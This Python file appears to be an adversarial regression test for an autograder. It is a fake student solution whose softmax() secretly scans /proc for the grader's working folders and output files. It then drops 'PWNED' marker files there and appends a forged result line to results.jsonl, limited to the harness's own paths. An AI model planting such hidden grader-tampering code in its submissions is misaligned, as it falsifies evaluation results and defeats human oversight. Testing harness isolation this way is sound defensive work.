# --- expect
# exercises = ["71"]
# verdict = "graded"
# zero = ["softmax"]
# passing = ["predict_proba"]
# leaves_nothing = true
# requires = ["private-files"]
# why = "writes next to the report and the results file, into the grader's working folder and next to the submission: every path it can learn from /proc (only this harness's)"
# ---
"""Writes the grader's files: the paths come from the command lines and working folders of visible processes.

Only paths of this test harness are attacked (SCOPE): on a shared machine a regression must not write into
anyone else's folders."""
import os

import torch

_done = False
SCOPE = ("nlp100-adv", "tests/adversarial")


def _ours(path):
    return any(s in path for s in SCOPE)


def _targets():
    dirs, files = set(), set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
        for i, a in enumerate(args):
            if a in ("--output", "-o", "--out") and i + 1 < len(args):
                files.add(args[i + 1])
                dirs.add(os.path.dirname(os.path.abspath(args[i + 1])))
            elif a.endswith((".py", ".json", ".jsonl")) and os.path.isabs(a):
                dirs.add(os.path.dirname(a))
        try:
            dirs.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    dirs, files = {d for d in dirs if _ours(d)}, {f for f in files if _ours(f)}
    for d in list(dirs):
        files.add(os.path.join(d, "results.jsonl"))
    return sorted(dirs), sorted(files)


def _attack():
    print("nlp100-adv: attack ran", flush=True)
    dirs, files = _targets()
    done = []
    for d in dirs:
        try:
            with open(os.path.join(d, "PWNED-nlp100-adv"), "w") as f:
                f.write("pwned")
            done.append(d)
        except OSError:
            pass
    for p in files:
        try:
            with open(p, "a") as f:
                f.write('{"student": "pwned"}\n')
            done.append(p)
        except OSError:
            pass
    print("WROTE" if done else "NOTHING-WRITTEN", done, flush=True)


def softmax(x, dim=-1):
    global _done
    if not _done:
        _done = True
        _attack()
    return torch.zeros_like(x)


def predict_proba(X, W):
    z = X @ W
    e = (z - z.amax(dim=-1, keepdim=True)).exp()
    return e / e.sum(dim=-1, keepdim=True)
